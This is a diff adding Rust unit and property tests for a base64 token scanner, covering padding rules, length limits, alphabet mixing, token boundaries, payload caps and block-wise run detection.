+            ("password=cGFzc3dvcmQxMjM0NQ==", "cGFzc3dvcmQxMjM0NQ=="),
+            ("a=b=SGVsbG8sIFdvcmxkIQ==", "SGVsbG8sIFdvcmxkIQ=="),
+            ("=SGVsbG8sIFdvcmxkIQ==", "SGVsbG8sIFdvcmxkIQ=="),
+        ];
+        for (input, token) in cases {
+            let found = candidates(input.as_bytes());
+            assert_eq!(found.len(), 1, "{input}");
+            assert_eq!(found[0].value, token, "{input}");
+            assert_eq!(found[0].start, input.len() - token.len(), "{input}");
+        }
+    }
+
+    #[test]
+    fn double_equals_inside_rejects_run() {
+        assert!(values("SGVsbG8sIFdvcmxkIQ==SGVsbG8sIFdvcmxkIQ==").is_empty());
+        assert!(values("x==SGVsbG8sIFdvcmxkIQ==").is_empty());
+    }
+
+    #[test]
+    fn padding_rules_enforced() {
+        let cases = [
+            // Three `=` are never padding.
+            "SGVsbG8sIFdvcmxkIQ===",
+            // Padded length not a multiple of four.
+            "SGVsbG8sIFdvcmxkIQ=",
+            "SGVsbG8sIFdvcmxkISE==",
+            // Data length of 1 mod 4.
+            "SGVsbG8sIFdvcmxkISEhI",
+        ];
+        for input in cases {
+            assert_eq!(values(input), Vec::<String>::new(), "{input}");
+        }
+    }
+
+    #[test]
+    fn short_tokens_rejected() {
+        // 15 characters unpadded and 8 characters padded.
+        assert!(values("SGVsbG8sIFdvcmx").is_empty());
+        assert!(values("SGVsbG8sIFdvcm").is_empty());
+        assert!(values("YWJjZA==").is_empty());
+        // 16 characters unpadded is enough.
+        assert_eq!(values("SGVsbG8sIFdvcmxk"), ["SGVsbG8sIFdvcmxk"]);
+    }
+
+    #[test]
+    fn mixed_alphabets_rejected() {
+        // `/` and `_` in one token.
+        let token = "SGVsbG8/IFdvcmxk_IQ";
+        assert!(values(token).is_empty());
+        let url_safe = "PDw_Pz4-PDw_Pz4-aGVsbG8gd29ybGQ";
+        assert_eq!(values(url_safe), [url_safe]);
+    }
+
+    #[test]
+    fn glued_tokens_rejected_whole() {
+        let cases = [
+            "xxxSGVsbG8sIFdvcmxkIQ==",
+            "prefix-SGVsbG8sIFdvcmxkIQ==",
+            "SGVsbG8sIFdvcmxkIQ==-suffix",
+            "SGVsbG8sIFdvcmxkIQ==yyy",
+        ];
+        for input in cases {
+            assert_eq!(values(input), Vec::<String>::new(), "{input}");
+        }
+    }
+
+    #[test]
+    fn non_ascii_neighbours_bound_token() {
+        let mut input = b"\xff\x00".to_vec();
+        input.extend_from_slice(b"SGVsbG8sIFdvcmxkIQ==");
+        input.extend_from_slice("é".as_bytes());
+        let found = candidates(&input);
+        assert_eq!(found.len(), 1);
+        assert_eq!((found[0].start, found[0].end), (2, 22));
+    }
+
+    #[test]
+    fn long_token_accepted_and_payload_capped() {
+        let text = "The quick brown fox jumps over the lazy dog. "
+            .repeat(MAX_PAYLOAD_LEN * 3 / 2 / 45);
+        let token = encode(text.as_bytes());
+        let found = candidates(token.as_bytes());
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].end, token.len());
+        let payload = found[0].payload.as_deref().unwrap();
+        assert_eq!(payload.len(), MAX_PAYLOAD_LEN);
+        assert_eq!(payload, &text.as_bytes()[..MAX_PAYLOAD_LEN]);
+    }
+
+    #[test]
+    fn oversized_token_skipped_whole() {
+        let unit = encode(b"The quick brown fox jumps over it.");
+        let token = unit.repeat(MAX_TOKEN_LEN / unit.len() + 1);
+        assert!(token.len() > MAX_TOKEN_LEN);
+        let input = format!("{token} SGVsbG8sIFdvcmxkIQ==");
+        assert_eq!(values(&input), ["SGVsbG8sIFdvcmxkIQ=="]);
+    }
+
+    #[test]
+    fn decode_handles_partial_groups() {
+        let mut out = Vec::new();
+        for len in 0..10 {
+            let bytes: Vec<u8> =
+                (0..len).map(|i: u8| 0xA5 ^ i.wrapping_mul(37)).collect();
+            let encoded = encode(&bytes);
+            decode_into(encoded.trim_end_matches('=').as_bytes(), &mut out);
+            assert_eq!(out, bytes, "{encoded}");
+        }
+    }
+
+    #[test]
+    fn class_mask_matches_byte_test() {
+        let expected =
+            |b: u8| b.is_ascii_alphanumeric() || b"+/=_-".contains(&b);
+        for byte in 0..=255u8 {
+            assert_eq!(in_class(byte), expected(byte), "{byte:#x}");
+            for at in 0..BLOCK {
+                let mut block = [b' '; BLOCK];
+                block[at] = byte;
+                let bit = u64::from(expected(byte)) << at;
+                assert_eq!(class_mask(&block), bit, "{byte:#x} at {at}");
+                let short = &block[..=at];
+                assert_eq!(class_mask(short), bit, "{byte:#x} in short");
+            }
+        }
+    }
+
+    /// Returns the runs of at least `MIN_PADDED_LEN` class bytes, one byte
+    /// at a time.
+    fn runs_by_byte(text: &[u8]) -> Vec<(usize, usize)> {
+        let mut runs = Vec::new();
+        let mut start = 0;
+        for (i, &byte) in text.iter().chain([&b' ']).enumerate() {
+            if !in_class(byte) {
+                if i - start >= MIN_PADDED_LEN {
+                    runs.push((start, i));
+                }
+                start = i + 1;
+            }
+        }
+        runs
+    }
+
+    fn runs_by_block(text: &[u8]) -> Vec<(usize, usize)> {
+        let mut runs = Vec::new();
+        for_each_run(text, |start, end| runs.push((start, end)));
+        runs
+    }
+
+    #[test]
+    fn runs_across_block_edges_found() {
+        for len in [11, 12, 13, 63, 64, 65, 127, 128, 129, 200] {
+            for offset in [0, 1, 52, 53, 63, 64, 65] {
+                let mut text = vec![b'.'; offset];
+                text.extend(std::iter::repeat_n(b'Q', len));
+                text.extend_from_slice(b". tail");
+                assert_eq!(
+                    runs_by_block(&text),
+                    runs_by_byte(&text),
+                    "run of {len} at {offset}"
+                );
+            }
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn arbitrary_bytes_give_sound_spans(
+            text in proptest::collection::vec(any::<u8>(), 0..512)
+        ) {
+            for candidate in candidates(&text) {
+                prop_assert!(candidate.start < candidate.end);
+                prop_assert!(candidate.end <= text.len());
+                let first = text[candidate.start];
+                prop_assert!(!(0x80..0xC0).contains(&first));
+                let token = &text[candidate.start..candidate.end];
+                prop_assert_eq!(candidate.value.as_bytes(), token);
+            }
+        }
+
+        #[test]
+        fn block_runs_match_byte_runs(
+            text in proptest::collection::vec(
+                prop_oneof![Just(b'A'), Just(b'='), Just(b' '), Just(0xC3)],
+                0..400,
+            )
+        ) {
+            prop_assert_eq!(runs_by_block(&text), runs_by_byte(&text));
+        }
+
+        #[test]
+        fn base64_alphabet_soup_gives_sound_spans(
+            text in "[A-Za-z0-9+/=_ -]{0,256}"
+        ) {
+            for candidate in candidates(text.as_bytes()) {
+                prop_assert!(candidate.end <= text.len());
+                prop_assert!(text.is_char_boundary(candidate.start));
+                prop_assert!(candidate.payload.is_some());
+            }
+        }
+
+        #[test]
+        fn encoded_sentences_round_trip(
+            text in "[A-Za-z][A-Za-z0-9 ,.:/]{11,200}"
+        ) {
+            let token = encode(text.as_bytes());
+            let input = format!("data: {token}\n");
+            let found = candidates(input.as_bytes());
+            prop_assert_eq!(found.len(), 1);
+            prop_assert_eq!(&found[0].value, &token);
+            prop_assert_eq!(
+                found[0].payload.as_deref(),
+                Some(text.as_bytes())
+            );
+        }
+    }
 }
